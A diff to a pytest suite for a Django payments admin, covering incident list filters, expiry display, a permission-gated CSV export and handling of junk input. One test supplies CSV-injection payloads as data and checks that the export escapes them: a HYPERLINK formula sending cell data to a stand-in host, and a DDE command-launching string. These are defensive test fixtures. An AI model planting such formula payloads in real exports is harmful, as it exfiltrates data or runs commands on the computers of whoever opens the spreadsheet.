@@ -4,7 +4,9 @@ scan runs can be seen (never edited), with any filter value."""
 
 from __future__ import annotations
 
+import html as html_module
 import re
+from datetime import timedelta
 
 import pytest
 from django.contrib import admin
@@ -62,7 +64,7 @@ def test_payments_cannot_be_edited_or_deleted_in_the_admin(site_on_sandbox, prod
 def cells(html: str) -> list[str]:
     """The text of every table cell, tags stripped."""
     found = re.findall(r"<t[dh][^>]*>(.*?)</t[dh]>", html, flags=re.S)
-    return [re.sub(r"<[^>]+>", "", cell).strip() for cell in found]
+    return [html_module.unescape(re.sub(r"<[^>]+>", "", cell)).strip() for cell in found]
 
 
 @pytest.fixture
@@ -177,16 +179,19 @@ def test_the_incident_list_reads_at_a_glance(monitored, merchant):
     assert page.status_code == 200
     html = page.content.decode()
     headers = re.findall(r'<th scope="col" class="[^"]*column-([\w]+)', html)
-    assert headers == ["customer", "amount_display", "kind_display", "status", "card_wrapped",
-                       "failure", "first_seen", "where"]  # the intent under its order
+    assert headers == ["customer", "amount_display", "kind_display", "status", "last_error",
+                       "first_seen", "expires", "where"]  # the intent under its order
     row_cells = cells(html)
     assert f"51.98{NBSP}EUR" in row_cells and f"12.50{NBSP}USD" in row_cells
     assert not {"5198", "1250", "eur", "usd"} & set(row_cells)
     assert "Authentication failed" in row_cells and "3-D Secure not handled" in row_cells
     assert {"Open", "Recovered (paid later)"} <= set(row_cells)
-    assert NBSP.join(["visa", "••••", "3184"]) + " (DE)" in row_cells  # may wrap once
-    assert "payment_intent_authentication_failure" in row_cells
-    assert "authentication_not_handled" in row_cells  # the decline code, the error on hover
+    # The last error in words, the codes on hover; the card under the customer.
+    assert "Failed the bank's check" in row_cells
+    assert "Bank asked for 3-D Secure; checkout could not ask" in row_cells
+    assert 'title="payment_intent_authentication_failure' in html
+    assert 'title="authentication_required / authentication_not_handled' in html
+    assert NBSP.join(["visa", "••••", "3184", "(DE)"]) in html
     assert "outside checkout" in html
     order = monitored["open"].order
     short = f"{order.reference[:9]}\u2060…\u2060{order.reference[-4:]}"
@@ -194,8 +199,9 @@ def test_the_incident_list_reads_at_a_glance(monitored, merchant):
         f'{short}</a>' in html
     intent = monitored["open"].stripe_id
     assert f'title="{intent}">{intent[:9]}\u2060…\u2060{intent[-4:]}<' in html
-    assert re.search(r"ago</span>", html) and "shopper@example.com" in row_cells
+    assert re.search(r"ago</span>", html) and "shopper@example.com" in html
     assert "Incident object" not in html
+    assert "Export CSV" in html
 
 
 def test_the_incident_page_shows_everything_with_the_ledger_and_late_facts(monitored,
@@ -352,3 +358,185 @@ def test_incidents_lead_the_payments_section_of_the_index(merchant):
                       "scanlock", "product"]
     app_page = merchant.get("/admin/payments/").content.decode()
     assert re.findall(r'class="model-(\w+)', app_page)[0] == "incident"
+
+
+# --- the failed payments list: ranges, card filters, CSV export ---------------------------
+
+def incident_make(stripe_id: str, **fields) -> Incident:
+    values = {"kind": Incident.Kind.AUTHENTICATION_FAILED, "amount": 1000, "currency": "eur",
+              "customer_email": f"{stripe_id}@example.com", "card_brand": "visa",
+              "card_last4": "3184", "card_country": "DE",
+              "error_code": "payment_intent_authentication_failure",
+              "intent_status": "requires_payment_method", "source": "webhook", **fields}
+    return Incident.objects.create(stripe_id=stripe_id, **values)
+
+
+@pytest.fixture
+def varied(db):
+    now = timezone.now()
+    return {
+        "small": incident_make("pi_small", amount=550, first_seen_at=now - timedelta(days=10)),
+        "ten": incident_make("pi_ten", amount=1000, card_brand="mastercard", card_country="FR",
+                             first_seen_at=now - timedelta(days=3)),
+        "big": incident_make("pi_big", amount=250000, currency="usd", card_country="US",
+                             error_code="card_declined", decline_code="insufficient_funds",
+                             error_message="Your card has insufficient funds.",
+                             first_seen_at=now),
+        "yen": incident_make("pi_yen", amount=1200, currency="jpy", card_brand="jcb",
+                             card_country="JP", first_seen_at=now - timedelta(days=1)),
+    }
+
+
+def listed(client, query) -> set[str]:
+    page = client.get("/admin/payments/incident/", query)
+    assert page.status_code == 200, query
+    return {incident.stripe_id for incident in page.context["cl"].result_list}
+
+
+def test_amount_range_in_minor_units_and_typed_in_major_units(varied, merchant):
+    assert listed(merchant, {"amount__gte": "1000"}) == {"pi_ten", "pi_big", "pi_yen"}
+    assert listed(merchant, {"amount__gte": "600", "amount__lte": "1000"}) == {"pi_ten"}
+    # The filter's form: a merchant types "10" and means 10.00 (1000 minor units).
+    page = merchant.get("/admin/payments/incident/", {"amount_from": "10", "amount_to": "10,00",
+                                                      "kind": "authentication_failed"})
+    assert page.status_code == 302
+    location = page["Location"]
+    assert "amount__gte=1000" in location and "amount__lte=1000" in location
+    assert "kind=authentication_failed" in location and "amount_from" not in location
+    followed = merchant.get("/admin/payments/incident/", {"amount_from": "5.5"}, follow=True)
+    assert {i.stripe_id for i in followed.context["cl"].result_list} == \
+        {"pi_small", "pi_ten", "pi_big", "pi_yen"}
+    assert followed.redirect_chain[0][0].endswith("amount__gte=550")
+    # Yen has no minor unit: 1200 typed is 1200.
+    page = merchant.get("/admin/payments/incident/", {"amount_from": "1200", "currency": "jpy"})
+    assert "amount__gte=1200" in page["Location"]
+    html = merchant.get("/admin/payments/incident/", {"amount__gte": "1000"}).content.decode()
+    assert 'name="amount_from" value="10.00"' in html  # shown as typed, in major units
+
+
+@pytest.mark.parametrize("query", [
+    {"amount__gte": "ten"}, {"amount__lte": "-5"}, {"amount__gte": "1e9"},
+    {"amount__gte": "9" * 40}, {"amount_from": "ten"}, {"amount_to": "1,000.00"},
+    {"amount_from": "\u0661\u0660"}, {"first_seen_at__lte": "yesterday"},
+    {"first_seen_at__gte": "9999-12-31"}, {"first_seen_at__lte": "2026-02-30"},
+])
+def test_junk_ranges_are_ignored_with_a_message(varied, merchant, query):
+    page = merchant.get("/admin/payments/incident/", query, follow=True)
+    assert page.status_code == 200
+    assert len(page.context["cl"].result_list) == 4
+    assert "was not valid" in page.content.decode()
+
+
+def test_first_seen_from_to_includes_both_days(varied, merchant):
+    today = timezone.localdate()
+    assert listed(merchant, {"first_seen_at__gte": str(today - timedelta(days=3)),
+                             "first_seen_at__lte": str(today - timedelta(days=1))}) == \
+        {"pi_ten", "pi_yen"}
+    assert listed(merchant, {"first_seen_at__lte": str(today)}) == \
+        {"pi_small", "pi_ten", "pi_big", "pi_yen"}
+    html = merchant.get("/admin/payments/incident/", {"first_seen_at__gte": str(today),
+                                                      "q": "pi_"}).content.decode()
+    assert f'name="first_seen_at__gte" value="{today}"' in html
+    assert '<input type="hidden" name="q" value="pi_">' in html  # the search survives
+
+
+def test_card_brand_country_and_decline_code_filters(varied, merchant):
+    assert listed(merchant, {"card_brand": "mastercard"}) == {"pi_ten"}
+    assert listed(merchant, {"card_country": "JP"}) == {"pi_yen"}
+    assert listed(merchant, {"decline_code": "insufficient_funds"}) == {"pi_big"}
+    assert listed(merchant, {"card_brand": "no-such-brand"}) == set()
+    html = merchant.get("/admin/payments/incident/").content.decode()
+    assert "By card brand" in html and "By card country" in html
+    assert "Insufficient funds" in html  # the decline code filter speaks words
+    assert listed(merchant, {"q": "3184"}) == {"pi_small", "pi_ten", "pi_big", "pi_yen"}
+
+
+def test_expires_in_for_an_open_payment_waiting_for_its_confirm(paid_order, merchant):
+    attempt = paid_order.attempts.get()
+    type(attempt).objects.filter(pk=attempt.pk).update(
+        status="requires_confirmation",
+        requires_confirmation_at=timezone.now() - timedelta(minutes=50))
+    waiting = incident_make("pi_waiting", kind=Incident.Kind.CONFIRMATION_ABANDONED,
+                            attempt=attempt, order=paid_order, error_code="",
+                            intent_status="requires_confirmation")
+    incident_make("pi_other")
+    html = merchant.get("/admin/payments/incident/").content.decode()
+    assert f"<strong>in{NBSP}10{NBSP}min</strong>" in html  # urgent: bold
+    detail = merchant.get(f"/admin/payments/incident/{waiting.pk}/change/").content.decode()
+    assert f"in{NBSP}10{NBSP}min" in detail
+
+
+def csv_rows(response) -> list[list[str]]:
+    import csv
+    import io
+
+    body = b"".join(response.streaming_content).decode("utf-8")
+    assert body.startswith("\ufeff")
+    return list(csv.reader(io.StringIO(body[1:])))
+
+
+def test_the_csv_export_has_exactly_what_the_filters_show(varied, merchant):
+    list_page = merchant.get("/admin/payments/incident/", {"currency": "eur", "o": "-3"})
+    assert 'href="/admin/payments/incident/export/?currency=eur&amp;o=-3"' in \
+        list_page.content.decode()
+    response = merchant.get("/admin/payments/incident/export/", {"currency": "eur"})
+    assert response.status_code == 200 and response.streaming
+    assert response["Content-Type"].startswith("text/csv")
+    assert "attachment;" in response["Content-Disposition"]
+    header, *rows = csv_rows(response)
+    assert header[:7] == ["First seen", "Kind", "Status", "Customer email", "Amount",
+                          "Currency", "Last error"]
+    column = {name: header.index(name) for name in header}
+    assert sorted((r[column["PaymentIntent"]], r[column["Amount"]], r[column["Currency"]])
+                  for r in rows) == [("pi_small", "5.50", "EUR"), ("pi_ten", "10.00", "EUR")]
+    big = csv_rows(merchant.get("/admin/payments/incident/export/", {"q": "pi_big"}))[1]
+    assert (big[column["Amount"]], big[column["Currency"]], big[column["Last error"]]) == \
+        ("2500.00", "USD", "Insufficient funds")
+    yen = csv_rows(merchant.get("/admin/payments/incident/export/", {"currency": "jpy"}))[1]
+    assert yen[column["Amount"]] == "1200"
+    everything = csv_rows(merchant.get("/admin/payments/incident/export/"))
+    assert len(everything) == 5
+
+
+def test_csv_cells_that_spreadsheets_would_run_are_escaped(db, merchant):
+    hostile = {
+        "pi_eq": '=HYPERLINK("http://evil.example/?"&A1,"Click")@x.com',
+        "pi_plus": "+1+1@x.com", "pi_minus": "-2+3@x.com", "pi_at": "@SUM(A1:A9)",
+        "pi_tab": "\t=1@x.com", "pi_cr": "\r=1@x.com", "pi_ok": "plain@x.com",
+    }
+    for stripe_id, email in hostile.items():
+        incident_make(stripe_id, customer_email=email,
+                      error_message="=cmd|' /C calc'!A0" if stripe_id == "pi_eq" else "")
+    header, *rows = csv_rows(merchant.get("/admin/payments/incident/export/"))
+    email_at, intent_at = header.index("Customer email"), header.index("PaymentIntent")
+    emails = {row[intent_at]: row[email_at] for row in rows}
+    for stripe_id, email in hostile.items():
+        expected = email if stripe_id == "pi_ok" else f"'{email}"
+        assert emails[stripe_id] == expected, stripe_id
+    eq_row = next(row for row in rows if row[intent_at] == "pi_eq")
+    assert eq_row[header.index("Stripe's message")] == "'=cmd|' /C calc'!A0"
+    assert eq_row[header.index("Last error")] == "Failed the bank's check"
+
+
+@pytest.mark.parametrize("query", [{"q": "a\x00b"}, {"first_seen_at__gte": "notadate"},
+                                   {"amount__gte": "junk"}, {"o": "99.-x"}, {"p": "999"},
+                                   {"nosuchfield": "1"}])
+def test_the_csv_export_takes_junk_without_a_500(varied, merchant, query):
+    response = merchant.get("/admin/payments/incident/export/", query)
+    assert response.status_code in (200, 302)
+    if response.status_code == 200:
+        assert len(csv_rows(response)) >= 1
+
+
+def test_the_csv_export_needs_its_permission(varied, db, client):
+    from django.contrib.auth.models import Permission, User
+
+    viewer = User.objects.create_user("viewer", password="x", is_staff=True)
+    viewer.user_permissions.add(Permission.objects.get(codename="view_incident"))
+    client.force_login(viewer)
+    html = client.get("/admin/payments/incident/").content.decode()
+    assert "Export CSV" not in html
+    assert client.get("/admin/payments/incident/export/").status_code == 403
+    viewer.user_permissions.add(Permission.objects.get(codename="export_incident"))
+    response = client.get("/admin/payments/incident/export/")
+    assert response.status_code == 200 and len(csv_rows(response)) == 5
